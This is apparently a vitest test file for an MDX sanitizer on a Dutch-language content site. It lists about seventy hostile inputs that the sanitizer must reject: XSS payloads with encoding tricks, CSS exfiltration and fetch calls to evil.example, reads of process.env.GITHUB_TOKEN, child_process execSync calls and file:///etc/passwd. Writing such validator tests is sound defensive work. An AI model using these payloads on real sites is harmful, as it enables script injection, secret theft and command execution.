/** Hostile MDX bodies: every one must be refused with its line; benign Markdown must pass. */
import { describe, it, expect } from 'vitest';
import { checkMdxBody, isSafeUrl } from '../../../src/lib/content/mdx-safety.ts';

const HOSTILE: [string, string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['script tag, upper case', '<SCRIPT>alert(1)</SCRIPT>'],
  ['script with src', '<script src="https://evil.example/x.js" />'],
  ['img onerror (unquoted)', '<img src=x onerror=alert(1) />'],
  ['img onerror (quoted)', '<img src="x" onerror="alert(1)" />'],
  ['svg with script', '<svg><script>alert(1)</script></svg>'],
  ['svg onload', '<svg onload="alert(1)" />'],
  ['iframe', '<iframe src="https://evil.example" />'],
  ['object', '<object data="x.swf" />'],
  ['embed', '<embed src="x" />'],
  ['style exfiltration', '<style>{`input[value^="a"]{background:url(https://evil.example/a)}`}</style>'],
  ['style element plain', '<style>body{display:none}</style>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css" />'],
  ['meta refresh', '<meta httpEquiv="refresh" content="0;url=https://evil.example" />'],
  ['base tag', '<base href="https://evil.example/" />'],
  ['form', '<form action="https://evil.example"><input name="p" /></form>'],
  ['div with onclick', '<div onClick="alert(1)">klik</div>'],
  ['anchor with javascript href', '<a href="javascript:alert(1)">x</a>'],
  ['HTML comment', '<!-- verborgen -->'],
  ['flow expression', '{process.exit(1)}'],
  ['text expression', 'Tekst {globalThis.fetch("https://evil.example")} meer'],
  ['expression reading env', '{process.env.GITHUB_TOKEN}'],
  ['expression with require', '{require("child_process").execSync("id")}'],
  ['empty expression comment', '{/* verborgen */}'],
  ['import node module', 'import fs from "node:fs"'],
  ['import child_process', 'import { execSync } from "child_process"'],
  ['dynamic import in expression', '{import("node:fs")}'],
  ['export const', 'export const x = 1'],
  ['export default', 'export default function Layout() { return null }'],
  ['unknown component', '<Evil />'],
  ['unknown lowercase component', '<kader titel="x">a</kader>'],
  ['known component, expression attribute', '<Kader titel={process.env.X}>a</Kader>'],
  ['known component, spread', '<Kader {...props}>a</Kader>'],
  ['known component, unknown attribute', '<Kader titel="x" onClick="alert(1)">a</Kader>'],
  ['known component, style attribute', '<Kader titel="x" style="display:none">a</Kader>'],
  ['known component, missing required attribute', '<Kader>a</Kader>'],
  ['known component, value not allowed', '<Kader titel="x" soort="script">a</Kader>'],
  ['known component, value too long', `<Kader titel="${'x'.repeat(200)}">a</Kader>`],
  ['known component, expression child', '<Kader titel="x">{alert(1)}</Kader>'],
  ['nested unknown element', '<Kader titel="x"><iframe src="x" /></Kader>'],
  ['Cijfer with children', '<Cijfer waarde="1" label="x" bron="y">tekst</Cijfer>'],
  ['javascript link', '[klik](javascript:alert(1))'],
  ['javascript link, mixed case', '[klik](JaVaScRiPt:alert(1))'],
  ['javascript link, entity encoded', '[klik](java&#115;cript:alert(1))'],
  ['javascript link, hex entity', '[klik](&#x6A;avascript:alert(1))'],
  ['javascript link, tab inside', '[klik](<java\tscript:alert(1)>)'],
  ['javascript link, leading space', '[klik]( javascript:alert(1))'],
  ['vbscript link', '[klik](vbscript:msgbox(1))'],
  ['data URL link', '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data URL image', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
  ['javascript image', '![x](javascript:alert(1))'],
  ['reference definition with javascript', '[klik][a]\n\n[a]: javascript:alert(1)'],
  ['protocol-relative link', '[klik](//evil.example/x)'],
  ['backslash trick', '[klik](javascript\\:alert(1))'],
  ['unclosed tag', '<Kader titel="x">niet gesloten'],
  ['fragment', '<>x</>'],
  ['member expression component', '<Kader.Sub titel="x" />'],
  ['namespaced element', '<svg:script>alert(1)</svg:script>'],
  ['autolink with javascript scheme', '<javascript:alert(1)>'],
  ['javascript link, named entity for the colon', '[klik](javascript&colon;alert(1))'],
  ['javascript link in angle brackets', '[klik](<javascript:alert(1)>)'],
  ['image from another site (tracking pixel)', '![pixel](https://tracker.example/p.gif?u=1)'],
  ['image reference to another site', '![pixel][p]\n\n[p]: https://tracker.example/p.gif'],
  ['image from another site inside a component', '<Kader titel="x">![y](http://tracker.example/y.png)</Kader>'],
  ['image protocol-relative', '![y](//tracker.example/y.png)'],
  ['meta refresh in lower case', '<meta http-equiv="refresh" content="0;url=https://evil.example" />'],
  ['textarea', '<textarea>x</textarea>'],
  ['details with ontoggle', '<details open ontoggle="alert(1)">x</details>'],
  ['math element', '<math><mtext><script>alert(1)</script></mtext></math>'],
];

const BENIGN = [
  '## Wat is het?\n\nEen **taalcafé** met _vrijwilligers_.',
  '- punt één\n- punt twee\n\n1. eerst\n2. dan',
  '[Website](https://www.vvsg.be/) en [intern](/praktijken/) en [anker](#resultaten)',
  '<Kader titel="Tip">Begin **klein**.</Kader>',
  '<Kader titel="Let op" soort="let-op">\n\nTekst in een kader.\n\n</Kader>',
  '<Citaat bron="coördinator integratie">Het werkt.</Citaat>',
  '<Cijfer waarde="250" label="vrijwilligers" bron="jaarverslag 2023" />',
  'Het woord script en `<script>` als code zijn gewoon tekst.',
  '```html\n<script>alert(1)</script>\n```',
  'Een accolade: \\{ en \\} en een kleiner-dan: 3 \\< 4.',
  '| kolom | waarde |\n| --- | --- |\n| a | 1 |',
  '[Meer info][vvsg]\n\n[vvsg]: https://www.vvsg.be/',
];

describe('hostile MDX bodies', () => {
  it('has a corpus of at least 50 hostile inputs', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(50));

  it.each(HOSTILE)('refuses %s', (_name, body) => {
    const problems = checkMdxBody(`Eerste regel.\n\n${body}`, 'content/praktijken/x.mdx', 20);
    expect(problems.length).toBeGreaterThan(0);
    for (const p of problems) {
      expect(p.file).toBe('content/praktijken/x.mdx');
      expect(p.field).toBe('body');
      // The body starts on line 20 of the file; the hostile part is on its third line or later.
      expect(p.line).toBeGreaterThanOrEqual(22);
      expect(p.message.length).toBeGreaterThan(10);
    }
  });
});

describe('benign Markdown', () => {
  it.each(BENIGN)('accepts %j', (body) => {
    expect(checkMdxBody(body, 'x.mdx', 1)).toEqual([]);
  });
});

describe('images in the text', () => {
  it.each(['![Foto van het taalcafé](/media/taalcafe.jpg)', '![Logo][logo]\n\n[logo]: /media/logo.png', '![pixel](https://tracker.example/p.gif)'])(
    'refuses %j, pointing to the «Afbeeldingen» field',
    (body) => {
      const problems = checkMdxBody(`Eerste regel.\n\n${body}`, 'content/praktijken/x.mdx', 10);
      expect(problems.map((p) => [p.file, p.line, p.field])).toEqual([['content/praktijken/x.mdx', 12, 'body']]);
      expect(problems[0].message).toMatch(/in het veld «Afbeeldingen» \(met alternatieve tekst\)/);
    },
  );
});

describe('isSafeUrl', () => {
  it.each(['https://a.be', 'http://a.be/x?y#z', 'mailto:a@b.be', '/praktijken/', '#top', 'pagina/', '../x'])('allows %s', (u) => expect(isSafeUrl(u)).toBe(true));
  it.each(['javascript:x', ' javascript:x', 'JAVASCRIPT:x', 'data:text/html,x', 'vbscript:x', '//evil.example', 'java\nscript:x', 'file:///etc/passwd'])('refuses %j', (u) =>
    expect(isSafeUrl(u)).toBe(false),
  );
});

describe('personal e-mail addresses in the text', () => {
  it.each(['Mail jan.janssens@gemeente.be voor info.', '[Mail ons](mailto:jan@gemeente.be)'])('refuses %j without consent', (body) => {
    expect(checkMdxBody(body, 'x.mdx', 1).map((p) => p.message)).toEqual([expect.stringMatching(/toestemming/)]);
  });
  it('allows them when the entry records consent', () => {
    expect(checkMdxBody('Mail jan@gemeente.be.', 'x.mdx', 1, { consent: true })).toEqual([]);
  });
});
